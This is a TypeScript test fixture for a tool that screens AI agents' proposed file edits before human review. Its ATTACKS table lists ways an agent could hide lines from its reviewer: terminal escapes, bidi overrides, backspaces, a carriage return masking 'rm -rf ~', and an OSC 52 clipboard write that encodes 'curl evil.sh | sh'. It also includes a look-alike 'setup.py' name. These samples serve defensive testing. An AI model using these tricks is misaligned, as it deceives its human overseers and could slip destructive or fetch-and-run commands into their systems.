import type { FileChange, Hunk, Proposal } from "../../src/logic/protocol";

export const MOD = Array.from({ length: 20 }, (_, i) => `line ${i + 1}\n`).join("");

export function hunk(id: string, start: number, oldText: string, newText: string, state: Hunk["state"] = "pending"): Hunk {
  const n = (s: string): number => (s ? s.split("\n").length - (s.endsWith("\n") ? 1 : 0) : 0);
  return {
    id,
    range: { start: { line: start, character: 0 }, end: { line: start + n(oldText), character: 0 } },
    state,
    oldLines: n(oldText),
    newLines: n(newText),
    oldText,
    newText,
  };
}

export function file(path: string, hunks: Hunk[], extra: Partial<FileChange> = {}): FileChange {
  return {
    path,
    change: "modified",
    kind: "file",
    decision: "auto",
    rule: "rules[2]",
    rules: ["rules[2]"],
    reason: "ordinary source code",
    state: "pending",
    binary: false,
    hunks,
    ...extra,
  };
}

export function proposal(files: FileChange[], extra: Partial<Proposal> = {}): Proposal {
  return {
    runId: "r1",
    agent: "bot",
    state: "proposed",
    edit: { documentChanges: [] },
    files,
    denied: [],
    ...extra,
  };
}

/** src/mod.py as the daemon's test proposes it: line 2 and line 18 rewritten. */
export function modProposal(): Proposal {
  return proposal(
    [
      file("src/mod.py", [hunk("h2", 1, "line 2\n", "line two\n"), hunk("h18", 17, "line 18\n", "line eighteen\n")]),
      file("src/new.py", [], { change: "created" }),
      file("docs/old.md", [], { change: "deleted", decision: "auto" }),
    ],
    {
      edit: {
        documentChanges: [
          { kind: "create", uri: "file:///ws/src/new.py" },
          {
            textDocument: { uri: "file:///ws/src/new.py", version: null },
            edits: [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: "def new():\n    return 1\n" }],
          },
        ],
      },
      denied: [{ path: "AGENTS.md", change: "modified", rule: "invariant:protected", reason: "protected instruction file" }],
    },
  );
}

/** What an agent may write to hide a line from its reviewer (tests/unit/test_reviewer_sees.py),
 * each with what airlockd/names.py `escape` makes of it. */
export const ATTACKS: Record<string, [string, string]> = {
  "concealed text (SGR 8)": ["x = 1\x1b[8m; import os\x1b[0m\n", "x = 1\\x1b[8m; import os\\x1b[0m\n"],
  "cursor up + erase line": ["ok()\nevil()\x1b[1A\x1b[2K\n", "ok()\nevil()\\x1b[1A\\x1b[2K\n"],
  "OSC 52 clipboard write": ["\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\n", "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\n"],
  "C1 CSI": ["a\u009b2Kb\n", "a\\x9b2Kb\n"],
  "bidi override (Trojan source)": ['access = "user\u202e \u2066// admin\u2069 \u2066"\n', 'access = "user\\u202e \\u2066// admin\\u2069 \\u2066"\n'],
  "carriage return over a line": ["rm -rf ~\rls -l   \n", "rm -rf ~\\rls -l   \n"],
  backspace: ["safe\x08\x08\x08\x08evil\n", "safe\\x08\\x08\\x08\\x08evil\n"],
};

/** A character a terminal or editor acts on or does not draw (newline and tab aside). */
export const UNDRAWN = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}](?<![\n\t])/u;

/** `setup.py` with a Cyrillic `е`, as the daemon marks it. */
export const LOOKALIKE = "s\u0435tup.py";
export const LOOKALIKE_MARK = "look-alike name: reads as 'setup.py': 'е' is CYRILLIC SMALL LETTER IE, not the Latin 'e'";

/** A proposal whose names, reasons and text hold every attack; the look-alike file is marked. */
export function hostileProposal(): Proposal {
  const text = Object.values(ATTACKS).map(([a]) => a).join("");
  return proposal(
    [
      file(LOOKALIKE, [hunk("h1", 0, "line 1\n", text)], {
        decision: "review",
        rule: "invariant:confusable-name",
        reason: "look-alike name\x1b[8m hidden",
        marks: [LOOKALIKE_MARK, "the proposed text holds a terminal escape (ESC): shown escaped"],
      }),
    ],
    {
      denied: [
        { path: "evil\u202etxt.exe", change: "created", rule: "rules[0]", reason: "no\x1b]52;c;eA==\x07", marks: ["bidirectional control in the name"] },
      ],
    },
  );
}
